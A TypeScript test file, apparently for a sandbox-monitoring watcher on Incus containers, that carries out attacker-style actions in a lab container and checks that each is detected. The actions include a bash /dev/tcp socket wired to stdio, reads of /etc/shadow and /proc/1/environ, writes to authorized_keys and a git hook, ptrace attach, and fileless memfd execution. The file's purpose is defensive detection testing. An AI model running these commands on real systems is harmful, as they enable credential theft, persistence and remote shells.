import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createContainer } from '../../../lab/create.ts';
import { openLab, type Lab } from '../../../lab/lab.ts';
import { until } from '../../../lab/until.ts';
import { Watcher, watched } from './watcher.ts';

let lab: Lab;
let watcher: Watcher;

beforeAll(async () => {
  lab = await openLab({ name: 'behaviour', images: ['system'] });
  watcher = new Watcher();
  await createContainer(lab, { name: 'c1', number: 7, image: 'system', config: { 'security.nesting': 'true' } });
  watcher.watch(await watched(lab, 'c1'));
  await watcher.is('active');
  await until('python', async () => (await python('print("up")')).includes('up'), { timeoutMs: 60_000 });
});

afterAll(async () => {
  await watcher?.[Symbol.asyncDispose]();
  await lab?.[Symbol.asyncDispose]();
});

const python = (script: string, ...args: string[]) => lab.incus('exec', 'c1', '--', 'python3', '-c', script, ...args);
const sh = (script: string) => lab.run(['incus', 'exec', 'c1', '--', 'bash', '-c', script]);
const of = (marker: string) => (event: { readonly words: readonly string[] }) => event.words.includes(marker);

describe('What sandboxes do', () => {
  test('a socket that leads elsewhere on standard input is seen, of dup2 and of what is started with it', async () => {
    const connect =
      'import socket,os,subprocess;l=socket.socket();l.bind(("127.0.0.1",0));l.listen();s=socket.create_connection(l.getsockname());';
    await python(`${connect}os.dup2(s.fileno(),0)`, 'by-dup2');
    expect(await watcher.seen('stdio', of('by-dup2'))).toMatchObject({ uid: 'c1', descriptor: 0, name: 'python3' });
    await python(`${connect}subprocess.run(["/bin/true","started"],stdin=s)`);
    expect(await watcher.seen('stdio', of('started'))).toMatchObject({ descriptor: 0, program: '/bin/true' });
    // Opened in the place of what was closed: nobody duplicates anything.
    await python(
      'import socket,os;os.close(0);s=socket.socket();assert s.fileno()==0;s.set_inheritable(True);os.execv("/bin/true",["/bin/true","direct"])',
    );
    expect(await watcher.seen('stdio', of('direct'))).toMatchObject({ descriptor: 0 });
    await sh('exec 5<>/dev/tcp/10.90.0.1/53; cat direct-bash <&5 >&5 2>&5');
    await watcher.seen('stdio', ({ words, descriptor }) => words.includes('direct-bash') && descriptor === 2);
  });

  test('pipes, files and sockets of the unix family on it are ordinary', async () => {
    await python(
      'import socket,os;a,b=socket.socketpair();os.dup2(a.fileno(),0);r,w=os.pipe();os.dup2(r,1)',
      'plumbing',
    );
    await sh('echo x | cat >/tmp/x; cat </tmp/x | cat');
    await python('pass', 'behind');
    await watcher.seen('exec', of('behind'));
    expect(watcher.of('stdio').filter(of('plumbing'))).toEqual([]);
    expect(watcher.of('stdio').filter(({ program }) => program.endsWith('/cat') && program === 'x')).toEqual([]);
  });

  test('files with secrets are seen, read and written, however early in a program', async () => {
    await sh('cat /etc/shadow >/dev/null');
    expect(await watcher.seen('file', ({ path }) => path === '/etc/shadow')).toMatchObject({
      access: 'read',
      name: 'cat',
      words: ['cat', '/etc/shadow'],
      parents: [{ name: 'bash' }],
    });
    await sh('mkdir -p /root/.ssh; echo key >>/root/.ssh/authorized_keys');
    await watcher.seen('file', ({ path, access }) => path === '/root/.ssh/authorized_keys' && access === 'write');
    await sh('cd /root/.ssh; cat authorized_keys');
    await watcher.seen('file', ({ path, access }) => path === 'authorized_keys' && access === 'read');
    await sh('mkdir -p /workspace/.git/hooks; touch /tmp/hook; mv /tmp/hook /workspace/.git/hooks/pre-commit');
    await watcher.seen('file', ({ path, access }) => path === '/workspace/.git/hooks/pre-commit' && access === 'write');
    await sh('cat /proc/1/environ; ln -s /etc/shadow /tmp/shade');
    await watcher.seen('file', ({ path }) => path === '/proc/1/environ');
    await watcher.seen('file', ({ path, name }) => path === '/etc/shadow' && name === 'ln');
  });

  test('a name that the kernel reads first is seen as well', async () => {
    // The path lies in a file's page that was never touched: only the call itself brings it in.
    const script = `
import ctypes,mmap,os
with open('/tmp/path','wb') as f: f.write(b'/etc/shadow\\0'.ljust(8192, b'\\0'))
os.system('sync; echo')
f=os.open('/tmp/path',os.O_RDONLY)
libc=ctypes.CDLL(None); libc.mmap.restype=ctypes.c_void_p
at=libc.mmap(None,4096,1,2,f,0)
libc.open(ctypes.c_void_p(at),0)
`;
    await python(script, 'untouched');
    await watcher.seen('file', (event) => event.path === '/etc/shadow' && event.words.includes('untouched'));
  });

  test('attempts to get at the kernel are seen, allowed or not', async () => {
    await sh('mkdir -p /tmp/m; mount -t tmpfs hello /tmp/m; umount /tmp/m');
    const mount = await watcher.seen('call', ({ call, words }) => call === 'mount' && words[0] === 'mount');
    expect(mount.details.join(' ')).toContain('tmpfs');
    await watcher.seen('call', ({ call, words }) => call === 'umount' && words[0] === 'umount');
    await sh('unshare --user --map-root-user --mount true');
    expect(await watcher.seen('call', ({ call, words }) => call === 'unshare' && words[0] === 'unshare')).toMatchObject(
      {
        details: ['mnt', 'user'],
      },
    );
    await python('import ctypes;ctypes.CDLL(None).ptrace(16, 1, 0, 0)');
    expect(await watcher.seen('call', ({ call }) => call === 'ptrace')).toMatchObject({ details: ['attach'] });
    await python('import os;os.memfd_create("hidden")');
    expect(
      await watcher.seen('call', ({ call, details }) => call === 'memfd_create' && details[0] === 'hidden'),
    ).toBeDefined();
  });

  test('a program without a name in any directory is known as such', async () => {
    await python(
      'import os;f=os.memfd_create("x");os.write(f,open("/bin/true","rb").read());os.execv(f"/proc/self/fd/{f}",["nameless"])',
    );
    expect(await watcher.seen('exec', of('nameless'))).toMatchObject({ isNameless: true });
  });

  test('what Incus does inside to start a program is not theirs', async () => {
    await createContainer(lab, { name: 'c2', image: 'system' });
    watcher.watch(await watched(lab, 'c2'));
    const init = await watcher.seen('exec', ({ uid }) => uid === 'c2');
    expect(init.words[0]).toBe('/sbin/init');
    await watcher.seen('call', ({ uid }) => uid === 'c2');
    const before = watcher
      .of('call')
      .filter(({ uid, name }) => uid === 'c2' && !name.startsWith('systemd') && name !== '(sd-');
    expect(before.filter(({ name }) => /^(?:incusd|lxc)/.test(name))).toEqual([]);
  });
});
